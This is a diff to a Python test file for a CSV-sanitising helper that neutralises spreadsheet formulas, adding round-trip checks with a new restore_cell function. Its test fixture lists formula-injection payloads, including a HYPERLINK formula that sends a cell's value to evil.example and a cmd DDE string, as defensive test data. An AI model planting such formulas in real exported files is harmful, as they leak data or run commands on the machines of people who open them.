@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from services.common.csv_safe import neutralise_cell
+from services.common.csv_safe import neutralise_cell, restore_cell
 from services.conversation.assets import result_to_csv_bytes
 from tests.support.stack import Stack
 from tests.test_conversation_api import ask, dataframes
@@ -26,11 +26,13 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C c
 @pytest.mark.parametrize("text", FORMULAS)
 def test_formula_text_gets_a_leading_quote(text: str) -> None:
     assert neutralise_cell(text) == "'" + text
+    assert restore_cell(neutralise_cell(text)) == text  # what a reader of the CSV (the eval) compares
 
 
 @pytest.mark.parametrize("text", ["-5", "+5", "-5.25", "-.5", "-1e-3", "plain", "", "a=b", "5-3", "'quoted"])
 def test_numbers_and_plain_text_stay(text: str) -> None:
     assert neutralise_cell(text) == text
+    assert restore_cell(text) == text
 
 
 def test_typed_numbers_are_never_touched_text_is() -> None:
